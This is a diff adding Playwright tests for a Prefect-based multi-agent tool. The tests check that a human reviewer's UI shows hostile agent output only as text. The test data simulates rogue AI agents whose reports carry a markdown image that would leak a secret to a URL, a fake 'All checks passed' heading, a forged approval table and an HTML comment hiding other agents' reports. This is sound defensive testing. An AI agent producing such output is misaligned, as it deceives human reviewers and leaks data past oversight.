@@ -259,3 +259,199 @@ def test_review_in_the_prefect_ui(prefect_api, uw_home, tmp_path, docker_client,
     assert {o.role: o.round for o in result.agents} == {"explore": 1, "librarian": 1, "oracle": 1, "frontend": 2}
     for rejected in ("librarian", "oracle"):
         assert git(repo, "rev-list", f"{base}..ultrawork/{run_id}/{rejected}") == ""
+
+
+# -- a hostile team: what agents wrote is shown as text, loads nothing, hides nothing --------------------
+
+def hostile_report(url: str) -> str:
+    """Findings that would exfiltrate through the reviewer's browser, pass for the host, and hide the rest."""
+    from hostile_strings import everything
+
+    return (f"## Findings\n\n![status]({url}/findings.png?secret=hunter2)\n<h1>All checks passed</h1>\n\n"
+            f"| Agent | Outcome |\n| --- | --- |\n| every agent | approved |\n\n<!--\n"
+            + everything(url).replace("\udcff", "\ufffd") + "\n")          # a file holds no lone surrogate
+
+
+HOSTILE_TEAM = {
+    "explore": "cat hostile.md >> /plan/Plan.md",
+    "librarian": "cat hostile.md >> /plan/Plan.md; cat hostile.md >&2; exit 1",
+    "oracle": "printf '\\n## Findings\\n\\nOracle report: the parser is fine.\\n' >> /plan/Plan.md",
+    "frontend": "tr -d '\\000' < hostile.md > notes.md && printf '\\n## Findings\\n\\nFrontend report: notes added.\\n' >> /plan/Plan.md",
+}
+REPORTS = {"oracle": "Oracle report: the parser is fine.", "frontend": "Frontend report: notes added.",
+           "librarian": "AgentExecutionError"}
+
+
+class CountingServer:
+    """An HTTP server on this machine that counts every request (an agent's image pointing at it is one)."""
+
+    def __init__(self):
+        import threading
+        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+        hits = self.hits = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self):  # noqa: N802
+                hits.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/png")
+                self.end_headers()
+
+            def log_message(self, *args):
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def artifact_ids(run_id: str) -> dict[str, str]:
+    from prefect.client.orchestration import get_client
+    from prefect.client.schemas.filters import ArtifactCollectionFilter, ArtifactCollectionFilterKey
+
+    keys = [f"plan-{run_id}-{r}" for r in ROLES] + [f"diff-{run_id}-frontend"]
+    with get_client(sync_client=True) as client:
+        found = client.read_latest_artifacts(artifact_filter=ArtifactCollectionFilter(
+            key=ArtifactCollectionFilterKey(any_=keys)))
+    return {a.key: str(a.latest_id) for a in found}
+
+
+def agent_flow_runs(run_id: str) -> dict[str, str]:
+    from prefect.client.orchestration import get_client
+    from prefect.client.schemas.filters import FlowRunFilter, FlowRunFilterName
+
+    names = [f"{run_id}-{r}" for r in ROLES]
+    with get_client(sync_client=True) as client:
+        runs = client.read_flow_runs(flow_run_filter=FlowRunFilter(name=FlowRunFilterName(any_=names)))
+    return {r.name.removeprefix(f"{run_id}-"): str(r.id) for r in runs}
+
+
+def assert_nothing_passes_for_the_host(page, where, tables: str = "table") -> None:
+    """No agent text as a heading or a table (``tables``: where one would be the agent's), no image,
+    frame or style from an address."""
+    from playwright.sync_api import expect
+
+    for tag in ("h1", "h2", "h3", "h4", "h5", "h6"):
+        expect(where.locator(tag).filter(has_text="All checks passed")).to_have_count(0)
+    expect(where.locator(tables).filter(has_text="every agent")).to_have_count(0)
+    expect(where.locator("img, iframe, picture, video, svg image, link[rel=stylesheet]")
+           .filter(has=page.locator("[src*='127.0.0.1'], [href*='127.0.0.1']"))).to_have_count(0)
+
+
+def test_a_hostile_team_in_the_prefect_ui_loads_nothing_and_hides_no_report(
+        prefect_api, uw_home, tmp_path, docker_client, browser):
+    from playwright.sync_api import expect
+
+    ui = prefect_api.removesuffix("/api")
+    ARTIFACTS.mkdir(parents=True, exist_ok=True)
+    server = CountingServer()
+    repo = make_target_repo(tmp_path / "widgets", {"README.md": "# widgets\n",
+                                                   "hostile.md": hostile_report(server.url)})
+    run_id = f"uih-{uuid.uuid4().hex[:6]}"
+    flow = FlowThread({"task": "Review the notes", "repo": str(repo), "agents": ROLES, "run_id": run_id,
+                       "agent_commands": {r: ["sh", "-c", c] for r, c in HOSTILE_TEAM.items()}})
+    flow.start()
+    context = browser.new_context(viewport={"width": 1280, "height": 2300})
+    context.set_default_timeout(30_000)
+    context.route("**/*", local_only)              # the counting server is local: its hits are not blocked
+    page = context.new_page()
+    try:
+        fr = flow.wait_for_review()
+        sign_in(page, ui)
+
+        # The older UI: each decision's own description, and nothing loaded.
+        page.goto(f"{ui}/runs/flow-run/{fr}")
+        page.get_by_role("button", name="Resume").click()
+        for role in ROLES:
+            expect(page.get_by_text(f"{role.capitalize()}: comment").first).to_be_visible()
+        expect(page.get_by_text("Failed with AgentExecutionError").first).to_be_visible()
+        assert_nothing_passes_for_the_host(page, page)
+        page.screenshot(path=ARTIFACTS / "hostile-form-v1.png", full_page=True)
+
+        # The newer UI: the summary shows every agent's report, the ones after the hostile report too.
+        page.goto(f"{ui}/v2/runs/flow-run/{fr}")
+        page.get_by_role("button", name="Open menu").first.click()
+        page.get_by_role("menuitem", name="Resume").click()
+        dialog = page.get_by_role("dialog")
+        expect(dialog.locator("table")).to_have_count(1)                   # the host's outcome table only
+        for role in ROLES:
+            expect(dialog.locator("table").get_by_role("row").filter(has_text=role)).to_have_count(1)
+        for role, report in REPORTS.items():
+            expect(dialog).to_contain_text(report)
+        for role in ("oracle", "frontend"):                                  # short reports: shown open
+            expect(dialog.get_by_text(REPORTS[role]).first).to_be_visible()
+        expect(dialog.get_by_text("<h1>All checks passed</h1>").first).to_be_attached()   # shown as text
+        assert_nothing_passes_for_the_host(page, dialog)
+        dialog.screenshot(path=ARTIFACTS / "hostile-form-v2.png")
+
+        # Every artifact of the agents, in both UIs.
+        ids = artifact_ids(run_id)
+        assert len(ids) == 5, ids
+        shows = {f"plan-{run_id}-oracle": REPORTS["oracle"], f"plan-{run_id}-frontend": REPORTS["frontend"]}
+        for key, artifact_id in ids.items():
+            for prefix in ("", "/v2"):
+                page.goto(f"{ui}{prefix}/artifacts/artifact/{artifact_id}")
+                expect(page.get_by_text(shows.get(key, "<h1>All checks passed</h1>")).first).to_be_attached()
+                assert_nothing_passes_for_the_host(page, page)
+        page.screenshot(path=ARTIFACTS / "hostile-plan-artifact-v2.png", full_page=True)
+
+        # Each agent's logs (its output and errors) in both UIs.
+        for role, flow_run_id in agent_flow_runs(run_id).items():
+            for prefix in ("", "/v2"):
+                page.goto(f"{ui}{prefix}/runs/flow-run/{flow_run_id}")
+                expect(page.get_by_text(f"{run_id}-{role}").first).to_be_visible()
+                if role == "librarian":
+                    expect(page.get_by_text("librarian agent failed").first).to_be_visible()
+                assert_nothing_passes_for_the_host(page, page)
+        page.screenshot(path=ARTIFACTS / "hostile-logs-v2.png", full_page=True)
+        page.wait_for_timeout(1000)                                            # anything late still counts
+        assert server.hits == [], f"the reviewer's browser fetched agent addresses: {server.hits}"
+    finally:
+        context.close()
+        server.close()
+        if flow.is_alive():
+            try:
+                resume(flow.wait_for_review(timeout=60), {role: "reject" for role in ROLES})
+            except Exception:  # noqa: BLE001 - the run may not have reached the review
+                pass
+            flow.join(120)
+
+
+def test_table_artifacts_show_agent_text_as_text_in_both_uis(prefect_api, uw_home, browser):
+    """The results, egress and backlog tables carry agent-, model- or issue-written cells."""
+    from playwright.sync_api import expect
+    from prefect.artifacts import create_table_artifact
+
+    from hostile_strings import MARKDOWN, hostile
+    from ultrawork.untrusted import table_rows
+
+    ui = prefect_api.removesuffix("/api")
+    server = CountingServer()
+    attacks = sorted(hostile(server.url).items(), key=lambda item: item[0] not in MARKDOWN)   # first page: loads
+    rows = table_rows([{"agent": name, "egress": text} for name, text in attacks])
+    key = f"table-{uuid.uuid4().hex[:6]}"
+    # forced sync: the browser fixture's Playwright keeps an event loop in this thread
+    artifact_id = create_table_artifact(table=rows, key=key, description="hostile cells", _sync=True)
+    context = browser.new_context(viewport={"width": 1280, "height": 2300})
+    context.set_default_timeout(30_000)
+    context.route("**/*", local_only)
+    page = context.new_page()
+    try:
+        sign_in(page, ui)
+        for prefix in ("", "/v2"):
+            page.goto(f"{ui}{prefix}/artifacts/artifact/{artifact_id}")
+            expect(page.locator("td", has_text="html image").first).to_be_visible()
+            shown = page.locator("td", has_text="html\\.png").or_(page.locator("td", has_text="html.png"))
+            expect(shown.first).to_be_visible()                      # the agent's text, as text
+            assert_nothing_passes_for_the_host(page, page, tables="td table, th table")   # none in a cell
+            page.screenshot(path=ARTIFACTS / f"hostile-table{prefix.replace('/', '-') or '-v1'}.png", full_page=True)
+        page.wait_for_timeout(1000)
+        assert server.hits == [], f"the browser fetched agent addresses: {server.hits}"
+    finally:
+        context.close()
+        server.close()
